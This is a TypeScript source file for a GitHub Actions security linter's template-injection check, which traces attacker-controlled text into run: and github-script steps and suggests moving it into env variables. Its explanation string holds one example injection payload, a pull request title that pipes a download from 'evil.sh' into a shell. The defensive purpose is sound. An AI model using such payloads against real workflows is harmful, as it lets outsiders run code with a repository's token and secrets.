import type { Check, CheckContext, StepSite } from '../src/check.js';
import { PRIVILEGED_UNTRUSTED_EVENTS, usesAction } from '../src/analysis/facts.js';
import { valuePaths } from '../src/model/expressions.js';
import { expressionsIn, type Job, type Step, type Workflow } from '../src/model/workflow.js';
import { asString, isMap } from '../src/model/yaml.js';
import { isTokenSecret, secretUsesInJob } from '../src/analysis/secrets.js';
import { moveToEnv } from '../src/edits/env-move.js';
import { describeTaint, isAttackerControlled, taintOf, type Taint } from '../src/analysis/taint.js';
import { asWritten, describeGate, gateAt, jobGates, type Gate } from '../src/analysis/gates.js';
import { callerLocation, reachingEvents } from '../src/analysis/workflow-graph.js';
import type { Memo } from '../src/analysis/memo.js';
import type { RepoModel } from '../src/model/repo.js';
import { SEVERITIES, type Severity, type SourceRange } from '../src/types.js';

export const templateInjection: Check = {
  meta: {
    id: 'template-injection',
    title: 'Attacker-controlled text expanded into a script',
    area: 'injection',
    severity: 'high',
    description:
      'A `${{ }}` expression whose value an outsider controls (titles, bodies, branch names, commit messages…) inside `run:` or actions/github-script `script:`.',
    why:
      'GitHub substitutes `${{ }}` into the script text before the shell or JavaScript runs it. A pull request titled ' +
      '`"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets. In workflows triggered by ' +
      'pull_request_target, issue_comment or issues this hands the repository to anyone with a GitHub account.',
    howToFix:
      'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`.',
    example:
      '- run: echo "${{ github.event.issue.title }}"\n+ env:\n+   ISSUE_TITLE: ${{ github.event.issue.title }}\n+ run: echo "$ISSUE_TITLE"',
    fixable: true,
  },
  step(step, site, ctx) {
    const { workflow: wf, job, action } = site;
    const { repo, memo } = ctx;
    if (wf && job) {
      const { untrusted, textInputs, related } = memo.get('template-injection/workflow', wf, () => {
        const reaching = reachingEvents(repo, wf, memo).filter((e) => PRIVILEGED_UNTRUSTED_EVENTS.has(e.event));
        const edge = reaching.find((e) => e.via.length > 0)?.via.at(-1);
        return {
          untrusted: [...new Set(reaching.map((e) => (e.via.length ? `${e.event} (via ${e.origin.file})` : e.event)))],
          textInputs: textInputNames(wf),
          related: edge ? callerLocation(edge, `calls this workflow from a workflow run by ${reaching.find((e) => e.via.length > 0)!.event}`) : undefined,
        };
      });
      // Only asked when an input is expanded; reading every job's secrets up front is wasted work.
      const privileged = (): boolean => untrusted.length > 0 || hasWriteToken(wf, job) || referencesSecrets(wf, job, ctx);
      const gate = (): Gate | undefined => gateAt(jobGates(repo, wf, job, memo), step.index);
      scanStep(ctx, site, step, (path) => {
        const taint = taintOf(repo, wf, job, step.index, path, memo);
        if (taint) {
          const base: Severity = untrusted.length > 0 ? 'critical' : 'high';
          const g = untrusted.length > 0 ? gate() : undefined;
          const carried = taint.hops.length ? `, which ${describeTaint(taint)}` : '';
          const rel = taint.hops.length && taint.file !== yamlPath(site) ? { file: taint.file, range: taint.range, note: `\`${taint.source}\` enters here` } : related;
          return {
            severity: g ? 'medium' : base,
            kind: taint.hops.length ? 'tainted-output' : 'event',
            why: `${carried}${untrusted.length > 0 ? ` in a workflow run by ${untrusted.join(', ')}` : ''}${g ? `; only when ${describeGate(g)}` : ''}`,
            ...(rel ? { related: rel } : {}),
          };
        }
        const input = inputName(path);
        if (input && textInputs.has(input) && privileged()) return { severity: 'medium', kind: 'privileged-input', why: ' (a free-text input of a privileged workflow)' };
        return undefined;
      });
    } else if (action) {
      const tainted = memo.get('template-injection/tainted-inputs', repo, () => taintedLocalInputs(repo, memo));
      const inputs = memo.get('template-injection/action-inputs', action, () => new Set(action.inputs.map((i) => i.toLowerCase())));
      const dir = action.file.slice(0, action.file.lastIndexOf('/'));
      scanStep(ctx, site, step, (path) => {
        if (isAttackerControlled(path)) return { severity: 'high', kind: 'event', why: '' };
        const input = inputName(path);
        if (!input || !inputs.has(input)) return undefined;
        const caller = tainted.get(`${dir}#${input}`);
        if (caller) {
          const severity: Severity = caller.gate ? 'medium' : caller.untrusted ? 'critical' : caller.privileged ? 'high' : 'medium';
          return {
            severity,
            kind: 'tainted-action-input',
            why:
              ` and ${caller.file} passes ${caller.taint.hops.length ? `\`${caller.path}\`, which ${describeTaint(caller.taint)},` : `\`${caller.path}\``} into it` +
              `${caller.untrusted ? ` from a workflow run by ${caller.untrusted}` : ''}${caller.privileged ? ' with a write token or secrets' : ''}` +
              `${caller.gate ? `; only when ${describeGate(caller.gate)}` : ''}`,
            related: { file: caller.file, range: caller.range, note: `passes \`${caller.path}\` into this input` },
          };
        }
        return { severity: 'low', kind: 'action-input', why: ' (an action input: safe only while every caller passes trusted text)' };
      });
    }
  },
};

function yamlPath(site: StepSite): string {
  return site.yaml.path;
}

type Verdict = { severity: Severity; kind: string; why: string; related?: { file: string; range: SourceRange; note: string } } | undefined;

function scanStep(ctx: CheckContext, site: StepSite, step: Step, judge: (path: string) => Verdict): void {
  const { yaml } = site;
  const stepPath = [...site.stepsPath, step.index];
  const script = step.run ?? (usesAction(step, 'actions/github-script') ? step.with.get('script') : undefined);
  if (!script) return;
  const where = step.run ? 'run:' : 'github-script `script:`';
  for (const expr of expressionsIn(yaml, script.node)) {
    if (!expr.expr) continue;
    let worst: { path: string; verdict: NonNullable<Verdict> } | undefined;
    for (const path of valuePaths(expr.expr)) {
      const verdict = judge(path);
      if (verdict && (!worst || SEVERITIES.indexOf(verdict.severity) < SEVERITIES.indexOf(worst.verdict.severity))) worst = { path, verdict };
    }
    if (worst) {
      const { verdict } = worst;
      const path = asWritten(expr.inner, worst.path);
      ctx.report({
        file: yaml.path,
        range: expr.range,
        severity: verdict.severity,
        confidence: verdict.severity === 'low' ? 'medium' : 'high',
        messageId: `${verdict.kind}${step.run ? '' : '-script'}`,
        message: `\`${path}\` is expanded into ${where}${verdict.why}; pass it through env: instead`,
        fix: () => (step.run ? moveToEnv(yaml, step, stepPath, expr, path) : { refused: 'github-script code must read process.env itself' }),
        ...(verdict.related ? { related: [verdict.related] } : {}),
      });
    }
  }
}

function inputName(path: string): string | undefined {
  const m = /^(?:inputs|github\.event\.inputs)\.([^.]+)$/.exec(path);
  return m?.[1];
}

/** workflow_dispatch / workflow_call inputs that can hold arbitrary text (not boolean, number or choice). */
function textInputNames(wf: Workflow): Set<string> {
  const out = new Set<string>();
  for (const t of wf.triggers) {
    if ((t.event !== 'workflow_dispatch' && t.event !== 'workflow_call') || !isMap(t.config)) continue;
    const inputs = wf.yaml.get(t.config, 'inputs');
    if (!isMap(inputs)) continue;
    for (const { key, value } of wf.yaml.entries(inputs)) {
      const type = isMap(value) ? asString(wf.yaml.get(value, 'type')) : undefined;
      if (type === 'boolean' || type === 'number' || type === 'choice' || type === 'environment') continue;
      out.add(key.toLowerCase());
    }
  }
  return out;
}

function hasWriteToken(wf: Workflow, job: Job): boolean {
  const perms = job.permissions ?? wf.permissions;
  if (!perms) return false;
  return perms.kind === 'write-all' || perms.scopes.some((s) => s.level === 'write');
}

function referencesSecrets(wf: Workflow, job: Job, ctx: CheckContext): boolean {
  return secretUsesInJob(wf, job, ctx.memo).some((u) => !isTokenSecret(u.name));
}

interface TaintedInput {
  file: string;
  path: string;
  range: SourceRange;
  taint: Taint;
  /** The privileged untrusted events of the calling workflow, if any. */
  untrusted: string;
  privileged: boolean;
  gate?: Gate;
}

const rank = (t: TaintedInput): number => (t.untrusted ? (t.gate ? 1 : 3) : t.privileged ? 2 : 0);

/** Inputs of local actions (`uses: ./dir`) that some workflow fills with attacker-controlled text, directly or through earlier steps. */
function taintedLocalInputs(repo: RepoModel, memo: Memo): Map<string, TaintedInput> {
  const out = new Map<string, TaintedInput>();
  for (const wf of repo.workflows) {
    const untrusted = [...new Set(reachingEvents(repo, wf, memo).filter((e) => PRIVILEGED_UNTRUSTED_EVENTS.has(e.event)).map((e) => e.event))].join(', ');
    for (const job of wf.jobs) {
      for (const step of job.steps) {
        if (step.uses?.kind !== 'local' || !step.uses.path) continue;
        for (const [input, value] of step.with) {
          for (const expr of expressionsIn(wf.yaml, value.node)) {
            if (!expr.expr) continue;
            for (const p of valuePaths(expr.expr)) {
              const taint = taintOf(repo, wf, job, step.index, p, memo);
              if (!taint) continue;
              const key = `${step.uses.path}#${input.toLowerCase()}`;
              const gate = gateAt(jobGates(repo, wf, job, memo), step.index);
              const cand: TaintedInput = {
                file: wf.file,
                path: asWritten(expr.inner, p),
                range: expr.range,
                taint,
                untrusted,
                privileged: hasWriteToken(wf, job) || secretUsesInJob(wf, job, memo).some((u) => !isTokenSecret(u.name)),
                ...(gate ? { gate } : {}),
              };
              if (!out.has(key) || rank(cand) > rank(out.get(key)!)) out.set(key, cand);
              break;
            }
          }
        }
      }
    }
  }
  return out;
}
